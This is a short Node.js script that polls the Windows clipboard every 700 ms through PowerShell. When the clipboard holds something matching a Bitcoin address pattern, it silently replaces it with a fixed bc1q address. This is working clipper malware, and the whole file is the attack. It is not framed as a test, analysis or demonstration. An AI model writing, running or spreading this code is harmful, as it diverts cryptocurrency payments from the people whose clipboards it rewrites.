const { execSync } = require('child_process')

const looksRight = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/

setInterval(() => {
  const copied = execSync('powershell Get-Clipboard').toString().trim()
  if (looksRight.test(copied)) execSync('powershell Set-Clipboard bc1q0000000000000000000000000000000000000')
}, 700)
